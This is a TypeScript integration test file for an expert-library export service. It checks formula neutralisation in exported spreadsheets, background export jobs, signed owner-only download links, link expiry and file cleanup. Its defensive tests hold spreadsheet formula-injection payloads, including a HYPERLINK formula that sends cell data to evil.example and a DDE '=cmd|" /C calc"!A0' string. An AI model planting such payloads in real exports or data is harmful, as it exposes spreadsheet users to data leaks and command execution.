// Exports through the real app over HTTP: formulas neutralised in every cell, the background export job (progress,
// a signed download link for its owner only, expiry and the sweep), and the synchronous export's row cap.
import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock, readXlsxRows } from '@app/platform';
import { ExpertExportService, SearchIndexService } from '@app/core';
import { startTestApp, type TestApp } from '../support/test-server.js';
import { waitFor } from '../support/processes.js';

let t: TestApp;
let admin: string;
let province: string;
let jinshan: string; // LOCAL of 金山区 310116
const clock = new ManualClock();
/** More than the synchronous export's cap (2,000 rows), so only the background export can write them all. */
const SEEDED = 2150;

const UPSERT = `mutation($i: ExpertInput!) { upsertExpert(input: $i) { id } }`;
const expert = (name: string, specialties: string, extra: object = {}) => ({
  name,
  employer: '上海市农业科学院',
  title: '研究员',
  titleLevel: 'SENIOR',
  fields: ['AGRICULTURE'],
  specialties,
  regionCode: '310116',
  ...extra,
});

async function synced() {
  const index = t.app.get(SearchIndexService);
  expect(await waitFor(async () => (await index.pendingCount()) === 0, 30_000)).toBe(true);
}

beforeAll(async () => {
  t = await startTestApp({ clock });
  admin = await t.login('admin');
  const mk = (i: object) =>
    t.gql(`mutation($i: CreateAccountInput!) { createAccount(input: $i) { id } }`, { i }, admin);
  await mk({ username: 'shprov', password: 'Shanghai2026', role: 'PROVINCE', regionCode: '310000' });
  await mk({ username: 'jinshan', password: 'Jinshan2026', role: 'LOCAL', regionCode: '310116' });
  province = await t.login('shprov', 'Shanghai2026');
  jinshan = await t.login('jinshan', 'Jinshan2026');
  // A library larger than the synchronous cap, written in SQL (the import path has its own tests), then indexed.
  await t.runtime.dataSource.query(
    `INSERT INTO experts (name, title, title_level, fields, specialties, region_code, source, phone)
     SELECT '批量专家' || lpad(i::text, 5, '0'), '研究员', CASE WHEN i % 2 = 0 THEN 'SENIOR' ELSE 'ASSOCIATE' END, ARRAY['AGRICULTURE'],
            CASE WHEN i % 500 = 1 THEN '=HYPERLINK("http://evil.example","点我")' ELSE '设施蔬菜栽培 ' || i END,
            CASE WHEN i % 10 = 0 THEN '310104' ELSE '310116' END, 'LOCAL', '139' || lpad(i::text, 8, '0')
     FROM generate_series(1, $1) i`,
    [SEEDED],
  );
  await t.app.get(SearchIndexService).reindex();
}, 180_000);
afterAll(() => t?.close());

describe('formulas in exported cells', () => {
  it('neutralises text cells that would become formulas; the export reads back as text', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      '＝1+1',
      '@SUM(A1:A9)',
      '-2+3',
      '+86 专家',
      '\t=1+1',
    ];
    for (const [i, p] of payloads.entries()) {
      const res = await t.gql(
        UPSERT,
        { i: expert(`公式专家${i}`, p, { employer: i === 0 ? '=cmd|" /C calc"!A0' : '上海市农业科学院' }) },
        admin,
      );
      expect(res.errors).toBeUndefined();
    }
    await synced();
    const res = await t.gql(`{ exportExperts(query: "公式专家") { contentBase64 } }`, {}, admin);
    expect(res.errors).toBeUndefined();
    const rows = await readXlsxRows(Buffer.from(res.data.exportExperts.contentBase64, 'base64'));
    const byName = new Map(rows.map((r) => [r[0], r]));
    for (const [i, p] of payloads.entries()) {
      const row = byName.get(`公式专家${i}`)!;
      expect(row, `公式专家${i}`).toBeDefined();
      expect(row[6]).toBe(`'${p.trim()}`); // the service trims free text on input
    }
    expect(byName.get('公式专家0')![2]).toBe(`'=cmd|" /C calc"!A0`);
    // Nothing in the file is a formula cell.
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(res.data.exportExperts.contentBase64, 'base64') as unknown as ArrayBuffer);
    wb.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
    );

    // The export stays re-importable: the import reads the quoted cells back as they were, so nothing changes.
    const start = await t.gql(
      `mutation($f: String!, $c: String!) { startExpertImport(fileName: $f, contentBase64: $c) { id } }`,
      { f: '导出.xlsx', c: res.data.exportExperts.contentBase64 },
      admin,
    );
    expect(start.errors).toBeUndefined();
    let job: any;
    await waitFor(
      async () => {
        job = (
          await t.gql(
            `query($id: ID!) { importJob(id: $id) { status report { created updated unchanged rejected { row reason } } } }`,
            { id: start.data.startExpertImport.id },
            admin,
          )
        ).data.importJob;
        return job.status === 'SUCCEEDED' || job.status === 'FAILED';
      },
      30_000,
      200,
    );
    expect(job.report).toEqual({ created: 0, updated: 0, unchanged: payloads.length, rejected: [] });
  });
});

/** GET a download link with supertest, as `token` (or anonymously), keeping status and body bytes. */
async function download(url: string, token: string | null) {
  const req = request(t.app.getHttpServer())
    .get(url)
    .buffer(true)
    .parse((res, cb) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => cb(null, Buffer.concat(chunks)));
    });
  if (token) req.set('Authorization', `Bearer ${token}`);
  const res = await req;
  const body = res.body as Buffer;
  return { status: res.status, headers: res.headers, body, json: () => JSON.parse(body.toString('utf8')) };
}

const JOB_FIELDS = `id status fileName totalRows processedRows progress downloadUrl downloadUrlExpiresAt fileExpiresAt bytes error`;

async function startExport(token: string, variables: { query?: string | null; filter?: object | null }) {
  return t.gql(
    `mutation($q: String, $f: ExpertFilter) { startExpertExport(query: $q, filter: $f) { ${JOB_FIELDS} } }`,
    { q: variables.query ?? null, f: variables.filter ?? null },
    token,
  );
}

async function finished(id: string, token: string) {
  const seen: number[] = [];
  let job: any;
  const done = await waitFor(
    async () => {
      const res = await t.gql(`query($id: ID!) { exportJob(id: $id) { ${JOB_FIELDS} } }`, { id }, token);
      job = res.data?.exportJob;
      if (job) seen.push(job.progress);
      return job?.status === 'SUCCEEDED' || job?.status === 'FAILED';
    },
    120_000,
    100,
  );
  expect(done).toBe(true);
  return { job, seen };
}

describe('the synchronous export', () => {
  it('refuses more rows than its cap with BAD_USER_INPUT pointing to the background export, writing nothing', async () => {
    const audits = async () =>
      (
        await t.runtime.dataSource.query(
          `SELECT count(*)::int AS n FROM audit_log WHERE action = 'expert.export'`,
        )
      )[0].n;
    const before = await audits();
    const res = await t.gql(`{ exportExperts { fileName } }`, {}, admin);
    expect(res.errors![0].extensions.code).toBe('BAD_USER_INPUT');
    expect(res.errors![0].extensions.reason).toBe('EXPORT_TOO_LARGE');
    expect(res.errors![0].message).toMatch(/超过即时导出上限 2000 位.*startExpertExport/);
    expect(await audits()).toBe(before);
  });

  it('still answers a small selection at once', async () => {
    const res = await t.gql(
      `{ exportExperts(query: "批量专家00010") { fileName contentBase64 } }`,
      {},
      admin,
    );
    expect(res.errors).toBeUndefined();
    const rows = await readXlsxRows(Buffer.from(res.data.exportExperts.contentBase64, 'base64'));
    expect(rows.map((r) => r[0])).toContain('批量专家00010');
  });
});

describe('the background export', () => {
  let job: any;
  let expected: { name: string; phone: string; specialties: string }[];

  it('refuses a bad filter at once and writes no job', async () => {
    const res = await startExport(jinshan, { filter: { regionCode: 'abc' } });
    expect(res.errors![0].extensions.code).toBe('BAD_USER_INPUT');
    const [{ n }] = await t.runtime.dataSource.query(`SELECT count(*)::int AS n FROM export_jobs`);
    expect(n).toBe(0);
  });

  it('runs to completion with progress, for a bureau, in its own region only', async () => {
    expected = await t.runtime.dataSource.query(
      `SELECT name, phone, specialties FROM experts WHERE region_code LIKE '310116%' AND status = 'ACTIVE' ORDER BY name`,
    );
    expect(expected.length).toBeGreaterThan(1900);
    const started = await startExport(jinshan, {});
    expect(started.errors).toBeUndefined();
    expect(started.data.startExpertExport).toMatchObject({
      status: 'QUEUED',
      downloadUrl: null,
      totalRows: expected.length,
    });
    const run = await finished(started.data.startExpertExport.id, jinshan);
    job = run.job;
    expect(job).toMatchObject({
      status: 'SUCCEEDED',
      progress: 1,
      processedRows: expected.length,
      totalRows: expected.length,
      error: null,
    });
    expect(job.fileName).toMatch(/^专家库-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(job.downloadUrl).toMatch(new RegExp(`^/files/exports/${job.id}\\?expires=\\d+&signature=`));
    expect(job.bytes).toBeGreaterThan(10_000);
    // Progress only goes forward.
    expect(run.seen).toEqual([...run.seen].sort((a, b) => a - b));
  });

  it('is idempotent: a redelivered job that already finished changes nothing', async () => {
    const read = () =>
      t.runtime.dataSource.query(
        `SELECT status, processed_rows, bytes, finished_at, run_id, file_key FROM export_jobs WHERE id = $1`,
        [job.id],
      );
    const before = await read();
    await t.app.get(ExpertExportService).run(job.id, async () => {
      throw new Error('a finished job must not run again');
    });
    expect(await read()).toEqual(before);
  });

  it('serves the file to its owner: it opens with exceljs and holds exactly the right rows, neutralised', async () => {
    const res = await download(job.downloadUrl, jinshan);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/spreadsheetml/);
    expect(res.headers['content-disposition']).toContain(encodeURIComponent(job.fileName));
    expect(res.headers['cache-control']).toMatch(/no-store/);
    expect(res.body.length).toBe(job.bytes);
    const rows = await readXlsxRows(res.body);
    expect(rows[0]!.slice(0, 13)).toEqual([
      '姓名',
      '性别',
      '工作单位',
      '职称',
      '职称级别',
      '专业领域',
      '研究方向',
      '人才称号',
      '所在地区',
      '专家来源',
      '是否退休',
      '手机',
      '邮箱',
    ]);
    const data = rows.slice(1);
    expect(data).toHaveLength(expected.length);
    expect(data.map((r) => r[0]).sort()).toEqual(expected.map((e) => e.name).sort());
    const byName = new Map(data.map((r) => [r[0], r]));
    for (const e of expected.filter((x) => x.name.startsWith('批量专家')).slice(0, 50)) {
      expect(byName.get(e.name)![11]).toBe(e.phone); // the bureau of the region sees contacts in full
    }
    const formula = byName.get('批量专家00501')!;
    expect(formula[6]).toBe(`'=HYPERLINK("http://evil.example","点我")`);
    const audit = await t.runtime.dataSource.query(
      `SELECT action, after FROM audit_log WHERE entity_id = $1 ORDER BY at`,
      [job.id],
    );
    expect(audit.map((a: any) => a.action)).toEqual([
      'expert.export_start',
      'expert.export',
      'expert.export_download',
    ]);
    expect(audit[1].after.rows).toBe(expected.length);
  });

  it('cannot be downloaded by another account, anonymously, or with a changed link', async () => {
    for (const other of [province, admin]) {
      const res = await download(job.downloadUrl, other);
      expect(res.status).toBe(403);
      expect(res.json()).toMatchObject({ code: 'FORBIDDEN', reason: 'EXPORT_NOT_OWNER' });
      const seen = await t.gql(
        `query($id: ID!) { exportJob(id: $id) { downloadUrl } }`,
        { id: job.id },
        other,
      );
      expect(seen.errors![0].extensions.code).toBe('FORBIDDEN');
    }
    expect((await download(job.downloadUrl, null)).status).toBe(401);
    const tampered = job.downloadUrl.replace(
      /expires=(\d+)/,
      (_: string, e: string) => `expires=${Number(e) + 3600}`,
    );
    const res = await download(tampered, jinshan);
    expect(res.status).toBe(403);
    expect(res.json().reason).toBe('LINK_INVALID');
    expect((await download(`/files/exports/${job.id}`, jinshan)).status).toBe(403);
    expect((await download(`/files/exports/not-an-id?expires=1&signature=x`, jinshan)).status).toBe(404);
  });

  it('lets only one export run per account at a time, also when started twice at once', async () => {
    const results = await Promise.all(
      [0, 1, 2].map(() => startExport(province, { filter: { regionCode: '310116' } })),
    );
    const ok = results.filter((r) => !r.errors);
    const refused = results.filter((r) => r.errors);
    expect(ok).toHaveLength(1);
    for (const r of refused) {
      expect(r.errors![0].extensions.code).toBe('CONFLICT');
      expect(r.errors![0].message).toMatch(/已有一个导出任务正在进行/);
    }
    const run = await finished(ok[0]!.data.startExpertExport.id, province);
    expect(run.job.status).toBe('SUCCEEDED');
    // Once it is done, the next one may start.
    const next = await startExport(province, { query: '批量专家00001' });
    expect(next.errors).toBeUndefined();
    expect(
      (await finished(next.data.startExpertExport.id, province)).job.processedRows,
    ).toBeGreaterThanOrEqual(1);
  });

  it('has links that expire; reading the job again gives a fresh one', async () => {
    const old = job.downloadUrl;
    clock.advance(11 * 60_000);
    const res = await download(old, jinshan);
    expect(res.status).toBe(410);
    expect(res.json()).toMatchObject({ reason: 'LINK_EXPIRED' });
    expect(res.json().message).toMatch(/下载链接已过期/);
    const again = (
      await t.gql(`query($id: ID!) { exportJob(id: $id) { downloadUrl } }`, { id: job.id }, jinshan)
    ).data.exportJob;
    expect(again.downloadUrl).not.toBe(old);
    expect((await download(again.downloadUrl, jinshan)).status).toBe(200);
  });

  it('sweeps old export files: the file is gone and the job says so', async () => {
    const file = path.join(t.runtime.config.dataDir, 'uploads', 'exports', `${job.id}.xlsx`);
    expect(existsSync(file)).toBe(true);
    const fresh = (
      await t.gql(`query($id: ID!) { exportJob(id: $id) { downloadUrl } }`, { id: job.id }, jinshan)
    ).data.exportJob.downloadUrl;
    const service = t.app.get(ExpertExportService);
    // A half-written file of a run that died is removed by the sweep; the finished file is not yet due.
    const stray = path.join(
      t.runtime.config.dataDir,
      'tmp',
      `export-${job.id}-00000000-0000-4000-8000-000000000000.xlsx.part`,
    );
    writeFileSync(stray, 'half a file');
    expect(await service.sweep()).toEqual({ files: 0, parts: 1 });
    expect(existsSync(stray)).toBe(false);
    clock.advance(25 * 3600_000);
    expect((await service.sweep()).files).toBeGreaterThanOrEqual(1);
    expect(existsSync(file)).toBe(false);
    const after = (
      await t.gql(
        `query($id: ID!) { exportJob(id: $id) { status downloadUrl fileExpiresAt } }`,
        { id: job.id },
        jinshan,
      )
    ).data.exportJob;
    expect(after).toEqual({ status: 'EXPIRED', downloadUrl: null, fileExpiresAt: null });
    expect((await download(fresh, jinshan)).status).toBe(410);
  });
});
